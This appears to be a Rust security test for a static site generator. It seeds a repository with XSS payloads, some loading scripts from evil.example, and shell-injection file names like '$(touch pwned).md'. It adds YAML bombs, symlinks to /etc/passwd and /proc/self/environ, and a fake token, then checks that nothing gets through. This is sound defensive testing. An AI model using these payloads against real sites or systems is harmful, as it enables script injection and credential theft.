//! One repository in which everything is hostile at once, built by the real program.
//!
//! It is built, and what the program refuses is taken away, until it builds: so what is left is all that gets through. Of
//! that nothing may run in a browser, nothing may have come from outside the content, and outside nothing may have changed.

#![cfg(unix)]

#[expect(dead_code, reason = "no golden case is built here")]
mod common;
mod html;

use std::collections::{BTreeMap, BTreeSet};
use std::ffi::OsStr;
use std::fmt::Write as _;
use std::fs;
use std::os::unix::ffi::OsStrExt as _;
use std::os::unix::fs::symlink;
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::Command;

use common::{Run, below, files, redway, redway_build, walk};
use html::{not_allowed, tags};

/// What stands in files that are none of the site's business.
const SECRET: &str = "ghs_16C7e42F292c6912E7710c838347Ae178B4a";

/// A name that every script here would call, and no address or text of ours holds.
const CALL: &str = "pwned";

/// What runs a script somewhere, or fetches from another host: each stands in every place of a page, a list and a table.
const PAYLOADS: &[&str] = &[
    "<script>pwned()</script>",
    "<ScRiPt src=//evil.example/pwned.js></sCrIpT>",
    "</title><script>pwned()</script>",
    "</script><script>pwned()</script>",
    "<!--><script>pwned()</script>-->",
    "]]><script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<svg/onload=pwned()>",
    "<svg><animate onbegin=pwned() attributeName=x>",
    "<iframe srcdoc='<script>pwned()</script>'>",
    "<math><a xlink:href=javascript:pwned()>x",
    "<a href=\"java\tscript:pwned()\">x</a>",
    "<form action=javascript:pwned()><button>",
    "<base href=//evil.example/pwned/>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
    "<link rel=stylesheet href=//evil.example/pwned.css>",
    "<style>@import '//evil.example/pwned'</style>",
    "<details open ontoggle=pwned()>",
    "<x onclick=pwned() style=width:pwned()>",
    "\" onmouseover=\"pwned()",
    "' onfocus='pwned()' autofocus='",
    "\"><img src=x onerror=pwned()>",
    "` onload=pwned()",
    "[x](javascript:pwned())",
    "[x](JaVaScRiPt&colon;pwned())",
    "[x](&#106;avascript:pwned())",
    "[x](<java\u{1}script:pwned()>)",
    "[x](data:text/html,<script>pwned()</script>)",
    "[x](vbscript:pwned())",
    "[x](//evil.example/pwned \"\\\" onclick=pwned()\")",
    "![x](javascript:pwned())",
    "![x\" onerror=\"pwned()](x.png)",
    "![x](https://evil.example/pwned.png)",
    "<javascript:pwned()>",
    "[x]\n\n[x]: javascript:pwned()",
    "# x {#a\"onclick=pwned() .b}",
    "```x\"><script>pwned()</script>\nx\n```",
    "[^x]\n\n[^x]: <script>pwned()</script>",
    "| <script>pwned()</script> |\n| :- |\n| <img src=x onerror=pwned()> |",
    "{{ pwned() }} {% raw %} {{ table(data=\"pwned\") }}",
    "${pwned()} #{pwned()} <%= pwned() %> <?php pwned() ?>",
    "END:VEVENT\r\nBEGIN:VALARM\r\nACTION:pwned",
    "x\\nEND:VCALENDAR\\nX-pwned:x",
    "\u{202e}\u{2066}<script>pwned()</script>\u{2069}",
    "\u{0}<\u{0}script>pwned()</script>",
    "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
    "javascript:pwned()",
    "=HYPERLINK(\"https://evil.example/pwned\")",
];

/// Names that lead elsewhere, that a shell, a browser or another system reads in its own way, or that nobody can see.
const NAMES: &[&[u8]] = &[
    b"..%2f..%2fx.md",
    b"%2e%2e.md",
    b"..\\..\\x.md",
    b"-rf.md",
    b"--output=x.md",
    b"$(touch pwned).md",
    b"`touch pwned`.md",
    b"a\nb.md",
    b"a\x1b[31mb.md",
    b"\"onclick=\"pwned().md",
    b"<script>pwned()<",
    b"x'y.md",
    b"\xff\xfe.md",
    b"\xe2\x80\xaetxt.md",
    b"\xef\xbb\xbf.md",
    b"e\xcc\x81.md",
    b" .md",
    b"...md",
    b"x .md",
    b"x:y.md",
    b"x?y#z.md",
];

/// A text as one value of YAML, whatever it holds.
fn value(text: &str) -> String {
    serde_json::to_string(text).expect("a text is JSON, and so YAML")
}

fn write(path: &Path, bytes: impl AsRef<[u8]>) {
    fs::create_dir_all(path.parent().expect("it is in a folder")).expect("a folder");
    fs::write(path, bytes).expect("a file");
}

/// A page, and all that there is of kinds and lists, with the payload wherever text can stand.
fn poisoned(content: &Path, number: usize, payload: &str) {
    let v = value(payload);
    let page = |name: &str, front: &str, text: &str| {
        write(
            &content.join(format!("p{number}-{name}.md")),
            format!("---\n{front}---\n\n{text}\n"),
        );
    };
    page("text", "title: T\n", payload);
    page(
        "within",
        "title: T\n",
        &format!("- > a **b {payload} c** d"),
    );
    page("title", &format!("title: {v}\n"), "Text.");
    page("summary", &format!("title: T\ndescription: {v}\n"), "Text.");
    page(
        "tags",
        &format!("title: T\ntags: [{v}]\nkeywords: [{v}]\nextra: {{a: {v}}}\n"),
        "Text.",
    );
    page("alias", &format!("title: T\naliases: [{v}]\n"), "Text.");
    page("language", &format!("title: T\nlanguage: {v}\n"), "Text.");
    page(
        "contact",
        &format!("title: T\ncontacts: [{{for: {v}, email: a@b.example}}]\n"),
        "Text.",
    );
    page(
        "mail",
        &format!("title: T\ncontacts: [{{for: x, email: {v}}}]\n"),
        "Text.",
    );
    page(
        "phone",
        &format!("title: T\ncontacts: [{{for: x, phone: {v}}}]\n"),
        "Text.",
    );
    page(
        "url",
        &format!("title: T\ncontacts: [{{for: x, url: {v}}}]\n"),
        "Text.",
    );
    page(
        "label",
        &format!("title: T\ncontacts: [{{for: x, url: 'https://h.example/', label: {v}}}]\n"),
        "Text.",
    );
    page(
        "steps",
        &format!("title: T\nsteps: [{{title: {v}, text: {v}}}]\n"),
        "Text.",
    );
    page(
        "series",
        &format!(
            "kind: series\nid: s{number}\ntitle: {v}\ndescription: {v}\nupdated: 2026-01-05\nvenue: {v}\ncost: {v}\npattern: {v}\n\
             occurrences: [2026-02-05, {{on: 2026-03-05 10:00-11:00, title: {v}, note: {v}}}, {{on: 2026-04-16, status: cancelled, why: {v}}}]\n"
        ),
        "Text.",
    );
    page(
        "join",
        &format!(
            "kind: series\nid: j{number}\ntitle: T\nupdated: 2026-01-05\njoin: {v}\noccurrences: [2026-02-05]\n"
        ),
        "Text.",
    );
    page(
        "service",
        &format!(
            "kind: service\ntitle: T\nlead: {{role: {v}, holder: ann-lee, note: {v}}}\nfocus: [{v}]\n"
        ),
        "Text.",
    );
    page(
        "group",
        &format!(
            "kind: group\nid: g{number}\ntitle: T\nmeets: {v}\nseats: [{{member: ann-lee, office: {v}}}, {{name: {v}}}]\n"
        ),
        "Text.",
    );
    write(
        &content.join(format!("data/t{number}.yaml")),
        format!(
            "title: {v}\nunit: {v}\ncolumns: [{{id: a, title: {v}}}]\nrows: [[{v}]]\nnotes: [{v}]\n"
        ),
    );
    page(
        "table",
        "title: T\n",
        &format!("{{{{ table(data=\"t{number}\") }}}}"),
    );
}

/// What costs a reader of YAML or Markdown more than it looks.
fn bombs(content: &Path) {
    let mut laughs = String::from("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
    for n in 1..12 {
        let aliases = vec![format!("*a{}", n - 1); 9].join(", ");
        let _ = writeln!(laughs, "a{n}: &a{n} [{aliases}]");
    }
    write(&content.join("data/laughs.yaml"), &laughs);
    write(
        &content.join("b-laughs.md"),
        format!(
            "---\ntitle: T\nextra:\n  {}---\n\nT.\n",
            laughs.replace('\n', "\n  ").trim_end_matches(' ')
        ),
    );
    write(
        &content.join("b-self.md"),
        "---\ntitle: T\nextra: &a [*a]\n---\n\nT.\n",
    );
    write(&content.join("data/deep.yaml"), "[".repeat(50_000));
    write(&content.join("data/maps.yaml"), "{a: ".repeat(50_000));
    write(
        &content.join("b-keys.md"),
        format!("---\ntitle: T\n? {}\n---\n\nT.\n", "? ".repeat(20_000)),
    );
    for (n, piece) in [
        "[", "![", "*a_ ", "> ", "- ", "`", "<", "&", "[a](", "[^a]", "|a", "_*", "<!--", "\\",
        "{", "~~", "[[a]](",
    ]
    .iter()
    .enumerate()
    {
        write(
            &content.join(format!("b-run{n}.md")),
            format!("# T\n\n{}\n", piece.repeat(30_000 / piece.len())),
        );
    }
    write(&content.join("b-large.md"), vec![b'a'; 5 * 1024 * 1024]);
    write(&content.join("b-nul.md"), vec![0; 100_000]);
    write(
        &content.join("b-for-ever.md"),
        "---\nkind: series\nid: ever\ntitle: T\nupdated: 2026-01-05\nrecurs: [{every: week, on: [mon, tue, wed, thu, fri, sat, sun], from: 0001-01-01, until: 9999-12-31}]\n---\n\nT.\n",
    );
    let deep = "d/".repeat(100);
    write(&content.join(deep).join("page.md"), "# T\n\nT.\n");
}

/// Links to what is no part of the content, and what is no file.
fn links(site: &Path, outside: &Path) {
    let content = site.join("content");
    let to = |target: &Path, name: &str| symlink(target, content.join(name)).expect("a link");
    to(&outside.join("secret.txt"), "l-absolute.txt");
    to(Path::new("../../outside/secret.txt"), "l-relative.txt");
    to(Path::new("../../outside/secret.txt"), "l-page.md");
    to(outside, "l-folder");
    to(Path::new("/"), "l-root");
    to(Path::new("."), "l-itself");
    to(Path::new(".."), "l-above");
    to(Path::new("/etc/passwd"), "l-passwd.csv");
    to(Path::new("/proc/self/environ"), "l-environment.txt");
    to(Path::new("/dev/zero"), "l-zero.txt");
    to(Path::new("l-round.txt"), "l-round.txt");
    to(Path::new("nowhere"), "l-nowhere.md");
    symlink(
        outside.join("secret.txt"),
        content.join("data/l-table.yaml"),
    )
    .expect("a link");
    for pipe in ["f-pipe.md", "f-pipe.png"] {
        let made = Command::new("mkfifo").arg(content.join(pipe)).status();
        assert!(made.expect("mkfifo runs").success());
    }
    drop(UnixListener::bind(content.join("f-socket.md")).expect("a socket"));
}

/// The repository, with what it must not reach beside it.
fn lay_out(scratch: &Path) -> (PathBuf, PathBuf) {
    let (site, outside) = (scratch.join("site"), scratch.join("outside"));
    write(&outside.join("secret.txt"), SECRET);
    write(&outside.join("victim"), "Do not touch.");
    write(
        &site.join(".git/config"),
        format!("[http]\n\textraheader = {SECRET}\n"),
    );
    write(&site.join(".env"), format!("TOKEN={SECRET}\n"));
    let content = site.join("content");
    write(
        &content.join("site.yaml"),
        "title: H\nbase_url: https://h.example/\n",
    );
    write(&content.join("people.yaml"), "ann-lee: {name: Ann Lee}\n");
    write(
        &content.join("_index.md"),
        "# Welcome\n\nWhat is [good](good.md) stays.\n",
    );
    write(
        &content.join("good.md"),
        "# Good\n\nTurn left at the gate.\n",
    );
    write(&content.join("plan.csv"), "a,b\n");
    for (number, payload) in PAYLOADS.iter().enumerate() {
        poisoned(&content, number, payload);
    }
    for name in NAMES {
        let path = content.join("n").join(OsStr::from_bytes(name));
        write(&path, "# T\n\nT.\n");
    }
    bombs(&content);
    links(&site, &outside);
    (site, outside)
}

/// The files that are refused, by their paths below the site.
fn refused(run: &Run) -> BTreeSet<String> {
    run.stdout
        .lines()
        .map(|line| serde_json::from_str::<serde_json::Value>(line).expect("each line is JSON"))
        .filter(|finding| finding["severity"] == "error")
        .map(|finding| {
            finding["file"]
                .as_str()
                .unwrap_or_else(|| panic!("no file: {finding}"))
                .to_owned()
        })
        .collect()
}

/// Takes a file away that is refused; its name may be told with signs in place of what cannot be shown.
fn take_away(site: &Path, file: &str) -> bool {
    let path = site.join(file);
    if fs::symlink_metadata(&path).is_ok_and(|meta| !meta.is_dir()) {
        fs::remove_file(&path).expect("it can be removed");
        return true;
    }
    path.is_dir() && fs::remove_dir_all(&path).is_ok()
}

/// Everything below a folder: what each thing is, and its bytes or where it leads.
fn state(folder: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    walk(folder)
        .into_iter()
        .map(|path| {
            let meta = fs::symlink_metadata(&path).expect("it is there");
            let holds = if meta.is_file() {
                fs::read(&path).expect("it can be read")
            } else {
                format!("{:?} {:?}", meta.file_type(), fs::read_link(&path)).into_bytes()
            };
            (path, holds)
        })
        .collect()
}

/// An output of before, whose list of files was changed to lead to others.
fn earlier_output(scratch: &Path, output: &Path, arguments: [&str; 4]) {
    let good = scratch.join("good");
    write(
        &good.join("content/site.yaml"),
        "title: H\nbase_url: https://h.example/\n",
    );
    write(&good.join("content/_index.md"), "# Before\n\nText.\n");
    assert_eq!(redway_build(&good, arguments, [], None).exit, 0);
    let list = output.join(".redway-manifest");
    let mut listed = fs::read_to_string(&list).expect("the list");
    for victim in [
        "../outside/victim",
        "a/../../outside/victim",
        "..\\outside\\victim",
        ".",
    ] {
        let _ = writeln!(listed, "{victim}");
    }
    let _ = writeln!(
        listed,
        "{}",
        scratch.join("outside").join("victim").display()
    );
    write(&list, listed);
}

#[test]
fn what_gets_through_does_nothing() {
    let scratch = tempfile::tempdir().expect("a temporary folder");
    let (site, outside) = lay_out(scratch.path());
    let output = scratch.path().join("public");
    let arguments = [
        "--format",
        "json",
        "--output",
        output.to_str().expect("a plain path"),
    ];
    earlier_output(scratch.path(), &output, arguments);
    let (before, old) = (state(&outside), state(&output));
    let (mut rounds, mut gone) = (0, 0);
    loop {
        let source = state(&site);
        let run = redway_build(&site, arguments, [], None);
        assert_eq!(state(&site), source, "the build changed its source");
        assert_eq!(state(&outside), before, "the build reached outside");
        assert!(!run.stdout.contains('\u{1b}') && !run.stderr.contains('\u{1b}'));
        if run.exit == 0 {
            break;
        }
        assert_eq!(run.exit, 1, "{}", run.stderr);
        assert_eq!(state(&output), old, "a build with errors wrote something");
        let files = refused(&run);
        let mut taken = files.iter().filter(|file| take_away(&site, file)).count();
        // Names that cannot be told as they are: nothing else is in their folder.
        if taken == 0 && files.iter().any(|file| file.starts_with("content/n/")) {
            fs::remove_dir_all(site.join("content/n")).expect("it can be removed");
            taken = 1;
        }
        assert!(
            taken > 0,
            "nothing that can be taken away is refused: {files:#?}"
        );
        gone += taken;
        rounds += 1;
        assert!(rounds < 10, "errors come one after the other: {files:#?}");
    }
    assert!(gone > 100, "only {gone} files were refused");

    let published = files(&output);
    assert!(
        published.len() > 300,
        "only {} files got through",
        published.len()
    );
    // Nothing is lost: what was good is there, and nothing of the output is left that was made before.
    for file in ["index.html", "good/index.html", "plan.csv"] {
        assert!(published.contains_key(file), "{file} is lost");
    }
    for path in walk(&output) {
        let meta = fs::symlink_metadata(&path).expect("it is there");
        assert!(
            meta.is_file() || meta.is_dir(),
            "{} is no file",
            path.display()
        );
    }
    let (mut feeds, mut wrong) = (Vec::new(), Vec::new());
    for (name, bytes) in &published {
        let holds = |needle: &str| {
            bytes
                .windows(needle.len())
                .any(|window| window == needle.as_bytes())
        };
        assert!(
            !holds(SECRET) && !holds("root:x:0"),
            "{name} holds a secret"
        );
        match Path::new(name).extension().and_then(OsStr::to_str) {
            Some("html") => wrong.extend(what_a_page_does(name, bytes)),
            Some("js" | "css") => assert!(!holds(CALL), "{name} holds words of the content"),
            Some("ics") => feeds.extend([
                "--feed".to_owned(),
                below(scratch.path(), &output.join(name)),
            ]),
            Some("json") => {
                serde_json::from_slice::<serde_json::Value>(bytes)
                    .unwrap_or_else(|error| panic!("{name}: {error}"));
            }
            _ => {}
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
    // Each feed is read by the program itself, which knows what a line may begin with.
    assert!(
        feeds.len() > 20,
        "only {} feeds got through",
        feeds.len() / 2
    );
    let mut check = vec!["check", "--strict"];
    check.extend(feeds.iter().map(String::as_str));
    let run = redway(scratch.path(), check, []);
    assert_eq!(run.exit, 0, "{}", run.stderr);
}

/// What of a page runs script or is fetched from another host, though it should do nothing.
fn what_a_page_does(name: &str, bytes: &[u8]) -> Vec<String> {
    let text = str::from_utf8(bytes).expect("pages are UTF-8");
    let mut wrong = not_allowed(text);
    for tag in tags(text) {
        if ["iframe", "object", "embed", "base", "math", "animate"].contains(&&*tag.name) {
            wrong.push(format!("<{}>", tag.name));
        }
        let address = tag.get("content").unwrap_or("");
        let is_refresh = tag.get("http-equiv").is_some();
        if is_refresh && (address.contains(CALL) || address.contains("script:")) {
            wrong.push(format!("it leads on to {address}"));
        }
    }
    wrong.iter().map(|what| format!("{name}: {what}")).collect()
}
